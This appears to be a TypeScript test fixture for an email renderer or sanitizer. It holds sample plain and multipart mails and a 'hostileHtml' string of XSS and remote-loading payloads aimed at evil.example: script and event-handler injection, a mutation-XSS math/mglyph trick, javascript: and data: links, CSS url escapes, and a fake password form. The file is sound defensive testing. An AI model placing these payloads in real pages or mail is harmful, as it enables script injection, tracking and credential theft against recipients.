/** Mails that tests read: lines without line ends. */

/** The smallest PNG that shows something: one purple pixel. */
const PIXEL =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkSGT4DwACnwGcgwLbdgAAAABJRU5ErkJggg=='

export const plainMail = (subject: string, text = 'Hello Bob,\n\nas agreed.\n\nAda'): readonly string[] => [
  'From: Ada Lovelace <ada@example.com>',
  'To: Bob <bob@example.net>',
  `Subject: ${subject}`,
  'Message-ID: <1@example.com>',
  'Date: Tue, 14 Nov 2023 22:13:20 +0000',
  '',
  ...text.split('\n'),
]

/** Text and HTML alternatives, an image shown in the HTML, and an attachment. */
export const multipartMail: readonly string[] = [
  'From: Ada Lovelace <ada@example.com>',
  'To: Bob <bob@example.net>',
  'Subject: =?utf-8?Q?Figures_for_March_=E2=82=AC?=',
  'MIME-Version: 1.0',
  'Content-Type: multipart/mixed; boundary="outer"',
  '',
  '--outer',
  'Content-Type: multipart/related; boundary="related"',
  '',
  '--related',
  'Content-Type: multipart/alternative; boundary="inner"',
  '',
  '--inner',
  'Content-Type: text/plain; charset=utf-8',
  '',
  'The plain figures: 42',
  'See https://example.com/figures for more.',
  '',
  '--inner',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<html><head><style>h1 { color: #4533c4 }</style></head><body style="font-family: sans-serif">',
  '<h1>The rich figures: 42</h1><p>See <a href="https://example.com/figures">the report</a> for more.</p>',
  '<p><img src="cid:pixel@example.com" width="48" height="48" alt="a pixel"></p>',
  '<p><img src="https://tracker.example.com/open.gif" width="1" height="1" alt=""></p>',
  '</body></html>',
  '',
  '--inner--',
  '--related',
  'Content-Type: image/png',
  'Content-Transfer-Encoding: base64',
  'Content-ID: <pixel@example.com>',
  'Content-Disposition: inline; filename="pixel.png"',
  '',
  PIXEL,
  '--related--',
  '--outer',
  'Content-Type: text/csv; name="figures.csv"',
  'Content-Disposition: attachment; filename="figures.csv"',
  '',
  'month;euro',
  'March;42',
  '--outer--',
]

/** Whatever a mail could try: each of these must come to nothing. */
export const hostileHtml = `
<html><head>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url(https://evil.example/import.css); body { background: url(https://evil.example/bg.png) }
@font-face { font-family: evil; src: url(https://evil.example/font.woff) } p { font-family: evil }</style>
<script>top.postMessage('script', '*'); parent.document.title = 'owned'</script>
</head><body onload="parent.document.title='owned'" background="https://evil.example/body.png" style="background-image: url('https://evil.example/inline.png')">
<p id="harmless">Harmless text</p>
<img src="https://evil.example/pixel.gif" onerror="parent.document.title='owned'" srcset="https://evil.example/2x.png 2x">
<svg onload="parent.document.title='owned'"><image href="https://evil.example/svg.png"/><style>@import url(https://evil.example/svg.css)</style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=parent.document.title='owned'&gt;"></table></mtext></math>
<iframe src="https://evil.example/frame" srcdoc="<script>parent.parent.document.title='owned'</script>"></iframe>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<video src="https://evil.example/video.mp4" poster="https://evil.example/poster.png" autoplay></video>
<form action="https://evil.example/form"><input name="password"><button>Log in</button></form>
<a href="javascript:parent.document.title='owned'">script link</a>
<a href="data:text/html,<script>parent.document.title='owned'</script>">data link</a>
<a href="https://evil.example/login">www.bank.example</a>
<table background="https://evil.example/table.png"><tr><td>cell</td></tr></table>
<p style="background:\\75rl(https://evil.example/escaped.png)">escaped</p>
</body></html>`

export const htmlMail = (subject: string, html: string): readonly string[] => [
  'From: Mallory <mallory@example.com>',
  'To: Bob <bob@example.net>',
  `Subject: ${subject}`,
  'MIME-Version: 1.0',
  'Content-Type: text/html; charset=utf-8',
  '',
  ...html.split('\n'),
]
